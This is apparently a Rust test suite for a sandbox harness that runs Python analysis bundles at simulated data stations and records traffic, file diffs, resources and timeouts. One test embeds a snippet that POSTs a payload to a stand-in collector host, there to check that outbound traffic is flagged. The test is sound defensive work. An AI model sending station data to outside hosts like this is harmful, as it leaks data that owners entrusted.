use std::fs;
use std::path::Path;
use std::time::Duration;

use pasta_core::model::{BundleFile, TrainBundle, TrainMetadata};
use pasta_dast::{
    assess_runtime, execute_train, ContainerExecutor, DastError, ExecutionPlan, ProcessExecutor,
    RuntimeLimits, SimulatedStation,
};

fn bundle(main: &str, dockerfile: Option<&str>) -> TrainBundle {
    TrainBundle::new(
        "/nonexistent",
        vec![BundleFile::new("main.py", main)],
        None,
        dockerfile.map(|d| BundleFile::new("Dockerfile", d)),
        vec![],
        TrainMetadata::new("harness", "1", "test").unwrap(),
    )
    .unwrap()
}

const DOCKERFILE: &str = "FROM python:3.12-slim\nUSER app\nCMD [\"python3\", \"main.py\"]\n";

fn plan(stations: &[&str], data: &Path) -> ExecutionPlan {
    let route = stations
        .iter()
        .map(|s| SimulatedStation::new(*s, data))
        .collect();
    let mut p = ExecutionPlan::new(route);
    p.timeout = Duration::from_secs(30);
    p.sample_interval = Duration::from_millis(50);
    p
}

fn run(main: &str, stations: &[&str]) -> pasta_core::runtime::RunRecord {
    let data = tempfile::tempdir().unwrap();
    fs::write(data.path().join("cohort.csv"), "id,age\n1,40\n").unwrap();
    execute_train(
        &bundle(main, Some(DOCKERFILE)),
        &plan(stations, data.path()),
        &mut ProcessExecutor::new(),
    )
    .unwrap()
}

#[test]
fn noop_has_no_traffic_or_changes() {
    let rec = run("pass\n", &["a"]);
    let s = &rec.stations[0];
    assert_eq!(s.exit_code, Some(0));
    assert_eq!((s.metrics.rx_bytes, s.metrics.tx_bytes), (0, 0));
    assert!(s.diff.is_empty());
    let f = assess_runtime(&rec, &RuntimeLimits::default());
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule_id, "dast.summary");
}

#[test]
fn written_file_is_added() {
    let rec = run("open('results.txt', 'w').write('count=42\\n')\n", &["a"]);
    let d = &rec.stations[0].diff;
    assert_eq!(d.added, vec![("results.txt".to_string(), 9)]);
    assert!(d.modified.is_empty() && d.removed.is_empty());
}

#[test]
fn second_station_append_is_modified() {
    let src = "import os\nwith open('log.txt', 'a') as f:\n    f.write(os.environ['PASTA_STATION_ID'] + '\\n')\n";
    let rec = run(src, &["a", "b"]);
    assert_eq!(rec.stations.len(), 2);
    assert_eq!(rec.stations[0].diff.added, vec![("log.txt".to_string(), 2)]);
    assert!(rec.stations[1].diff.added.is_empty());
    assert_eq!(
        rec.stations[1].diff.modified,
        vec![("log.txt".to_string(), 2)]
    );
}

#[test]
fn posting_payload_counts_tx() {
    let src = r#"
import urllib.request
req = urllib.request.Request('http://collector.example/upload', data=b'x' * 10000, method='POST')
try:
    urllib.request.urlopen(req, timeout=10)
except Exception:
    pass
"#;
    let rec = run(src, &["a"]);
    let m = &rec.stations[0].metrics;
    assert!((10_000..=14_096).contains(&m.tx_bytes), "tx {}", m.tx_bytes);
    assert!(m.rx_bytes > 0);
    let f = assess_runtime(&rec, &RuntimeLimits::default());
    assert!(f.iter().any(|f| f.rule_id == "dast.network-traffic"));
}

#[test]
fn data_source_traffic_is_allowed() {
    let data = tempfile::tempdir().unwrap();
    let src = "import urllib.request\ntry:\n    urllib.request.urlopen('http://fhir.station.local/Patient', timeout=10)\nexcept Exception:\n    pass\n";
    let mut p = plan(&["a"], data.path());
    p.data_sources = vec!["fhir.station.local".into()];
    let rec = execute_train(
        &bundle(src, Some(DOCKERFILE)),
        &p,
        &mut ProcessExecutor::new(),
    )
    .unwrap();
    let s = &rec.stations[0];
    assert!(s.metrics.tx_bytes > 0);
    assert_eq!(s.allowed_bytes, s.metrics.rx_bytes + s.metrics.tx_bytes);
    assert_eq!(assess_runtime(&rec, &RuntimeLimits::default()).len(), 1);
}

#[test]
fn busy_loop_uses_cpu() {
    let rec = run(
        "import time\nt = time.time()\nwhile time.time() - t < 0.8:\n    pass\n",
        &["a"],
    );
    assert!(rec.stations[0].metrics.cpu_percent_peak > 0.0);
    assert!(rec.stations[0].metrics.memory_gb_peak > 0.0);
    assert!(rec.stations[0].metrics.pids_peak >= 1);
}

#[test]
fn timeout_skips_later_stations() {
    let data = tempfile::tempdir().unwrap();
    let mut p = plan(&["a", "b"], data.path());
    p.timeout = Duration::from_millis(500);
    let rec = execute_train(
        &bundle("import time\ntime.sleep(30)\n", Some(DOCKERFILE)),
        &p,
        &mut ProcessExecutor::new(),
    )
    .unwrap();
    assert_eq!(rec.stations.len(), 1);
    assert!(rec.stations[0].timed_out);
    assert_eq!(rec.stations[0].exit_code, None);
    assert!(rec.stations[0].metrics.wall_time < 10.0);
}

#[test]
fn station_data_is_read_only() {
    let src = "import os, pathlib\nd = pathlib.Path(os.environ['PASTA_DATA_DIR'])\nprint(d.joinpath('cohort.csv').read_text().splitlines()[1])\ntry:\n    d.joinpath('x').write_text('no')\n    print('wrote')\nexcept OSError:\n    print('denied')\n";
    let rec = run(src, &["a"]);
    // Root ignores permission bits, so only check the read side there.
    let out = &rec.stations[0].stdout;
    assert!(out.starts_with("1,40\n"), "{out}");
    if running_as_root() {
        return;
    }
    assert!(out.contains("denied"), "{out}");
}

fn running_as_root() -> bool {
    fs::read_to_string("/proc/self/status")
        .map(|s| {
            s.lines()
                .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(1) == Some("0"))
        })
        .unwrap_or(false)
}

#[test]
fn output_is_truncated() {
    let rec = run("import sys\nsys.stdout.write('y' * 200000)\n", &["a"]);
    assert_eq!(rec.stations[0].stdout.len(), pasta_dast::OUTPUT_LIMIT);
}

#[test]
fn artifacts_layout() {
    let data = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let mut p = plan(&["station-a"], data.path());
    p.artifacts_dir = Some(out.path().to_path_buf());
    execute_train(
        &bundle(
            "print('hi')\nopen('r.txt','w').write('1')\n",
            Some(DOCKERFILE),
        ),
        &p,
        &mut ProcessExecutor::new(),
    )
    .unwrap();
    let dir = out.path().join("run/station-a");
    assert_eq!(fs::read_to_string(dir.join("stdout.log")).unwrap(), "hi\n");
    assert!(dir.join("stderr.log").is_file());
    let metrics = fs::read_to_string(dir.join("metrics.ndjson")).unwrap();
    assert!(metrics.lines().count() >= 1);
    for line in metrics.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(v.get("pids_peak").is_some());
    }
    let diff: serde_json::Value =
        serde_json::from_str(&fs::read_to_string(dir.join("diff.json")).unwrap()).unwrap();
    assert_eq!(diff["added"][0][0], "r.txt");
}

#[test]
fn entrypoint_and_plan_errors() {
    let data = tempfile::tempdir().unwrap();
    let err = execute_train(
        &bundle("pass", None),
        &plan(&["a"], data.path()),
        &mut ProcessExecutor::new(),
    )
    .unwrap_err();
    assert!(matches!(err, DastError::EntrypointMissing));

    let mut p = plan(&["a"], data.path());
    p.command = Some(vec!["python3".into(), "main.py".into()]);
    assert!(execute_train(&bundle("pass", None), &p, &mut ProcessExecutor::new()).is_ok());

    let empty = ExecutionPlan::new(vec![]);
    assert!(matches!(
        execute_train(
            &bundle("pass", Some(DOCKERFILE)),
            &empty,
            &mut ProcessExecutor::new()
        ),
        Err(DastError::InvalidPlan(_))
    ));
    let mut dup = plan(&["a", "a"], data.path());
    dup.timeout = Duration::from_secs(1);
    assert!(matches!(
        execute_train(
            &bundle("pass", Some(DOCKERFILE)),
            &dup,
            &mut ProcessExecutor::new()
        ),
        Err(DastError::InvalidPlan(_))
    ));
}

#[test]
fn missing_program_is_sandbox_unavailable() {
    let data = tempfile::tempdir().unwrap();
    let mut p = plan(&["a"], data.path());
    p.command = Some(vec!["/definitely/not/here".into()]);
    let err = execute_train(&bundle("pass", None), &p, &mut ProcessExecutor::new()).unwrap_err();
    assert!(matches!(err, DastError::SandboxUnavailable(_)));
}

#[test]
fn container_backend_when_available() {
    let Ok(mut exec) = ContainerExecutor::detect("Dockerfile") else {
        eprintln!("no container runtime; container backend not exercised");
        return;
    };
    let data = tempfile::tempdir().unwrap();
    let rec = execute_train(
        &bundle("open('results.txt','w').write('1')\n", Some(DOCKERFILE)),
        &plan(&["a"], data.path()),
        &mut exec,
    )
    .unwrap();
    assert_eq!(rec.stations[0].diff.added.len(), 1);
}
